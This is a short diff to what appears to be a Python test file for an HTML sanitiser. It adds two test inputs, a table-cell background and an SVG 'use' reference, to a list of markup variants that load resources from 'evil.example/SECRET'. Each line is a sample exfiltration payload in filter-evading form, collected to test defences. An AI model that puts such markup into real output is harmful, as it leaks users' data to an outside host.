@@ -93,6 +93,8 @@ def test_an_image_of_a_listed_host_stays(text: str) -> None:
         '<div style="background: url(https://evil.example/SECRET)">',
         '<img src="https://evil.example/SECRET"',
         '<img src="//evil.example/SECRET">',
+        "<td background=//evil.example/SECRET>",
+        "<svg><use href='//evil.example/SECRET#x'/></svg>",
         '<img src=" //evil.example/SECRET">',
         '<img src="///evil.example/SECRET">',
         '<img alt=">" src="https://evil.example/SECRET">',
